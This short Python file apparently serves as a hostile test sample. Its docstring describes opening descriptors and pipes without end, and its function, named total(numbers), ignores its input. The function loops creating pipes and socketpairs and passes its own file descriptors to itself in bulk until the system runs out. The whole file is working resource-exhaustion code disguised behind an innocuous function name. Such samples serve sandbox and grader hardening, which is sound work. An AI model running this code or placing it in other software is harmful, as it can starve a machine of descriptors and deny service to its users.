"""Opens descriptors and pipes without end and sends them to itself."""

import os, socket
from hollow import *
def total(numbers):
    hold = []
    while True:
        try:
            hold.append(os.pipe())
            left, right = socket.socketpair()
            for _ in range(50):
                socket.send_fds(left, [b"x"], [left.fileno()] * 50)
            hold.append((left, right))
        except OSError:
            if len(hold) > 10_000:
                return
            hold.append(None)
